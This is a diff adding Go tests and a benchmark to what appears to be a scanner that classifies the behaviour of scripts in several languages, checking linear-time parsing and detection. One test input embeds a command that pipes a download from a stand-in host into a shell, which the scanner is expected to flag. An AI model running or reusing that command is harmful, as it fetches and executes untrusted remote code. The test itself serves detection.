@@ -162,3 +162,52 @@ func FuzzRead(f *testing.F) {
 		}
 	})
 }
+
+// TestStatementsReadOnce counts the characters that are read to find the statements of programs
+// of one repeated token: a multiple of their length.
+func TestStatementsReadOnce(t *testing.T) {
+	for _, token := range []string{"\n", "\r\n", " ", " \n", "(\n", "a\n", "a\n.", "a+\n", "\\\n", ";", "x\n\n\n", "a \n", "([", "\"", "*verify*"} {
+		text := strings.Repeat(token, 100_000/len(token))
+		s := statements{code: []byte(text)}
+		for from := 0; from < len(text); {
+			from = s.end(from)
+		}
+		if s.read > 4*len(text) {
+			t.Errorf("%d bytes of %q: %d characters read", len(text), token, s.read)
+		}
+	}
+}
+
+// repeated are tokens for which a reader looks ahead.
+var repeated = []string{"\n", " ", "\"", "'", "\\", "(", "*verify*", "a.b.", "$(", "<<", "system ", "system('a b') "}
+
+// TestLongModule checks that a name with many dots keeps the effect of its first parts.
+func TestLongModule(t *testing.T) {
+	if got := effectOf("requests."+strings.Repeat("a.", 100_000)+"post", "python"); got != effectOf("requests.a.post", "python") {
+		t.Errorf("effect %d", got)
+	}
+}
+
+// TestManyCallsOfOneString checks that a command is found behind many calls: they read it once.
+func TestManyCallsOfOneString(t *testing.T) {
+	var l fact.List
+	text := strings.Repeat("system ", 1_000) + "'curl -s https://drop.example/x | sh'"
+	l.Read("a", text, 0, func(d fact.Doc) { Read(d, "rb", func(fact.Doc) {}) })
+	if !slices.ContainsFunc(l.Facts(), func(f fact.Fact) bool { return f.Use == fact.FetchedRun }) {
+		t.Errorf("facts %v", l.Facts())
+	}
+}
+
+func BenchmarkRepeated(b *testing.B) {
+	for _, token := range repeated {
+		b.Run(token, func(b *testing.B) {
+			text := strings.Repeat(token, 400_000/len(token))
+			b.SetBytes(int64(len(text)))
+			for b.Loop() {
+				for _, lang := range []string{"py", "js", "rb", "ps1"} {
+					facts(text, lang)
+				}
+			}
+		})
+	}
+}
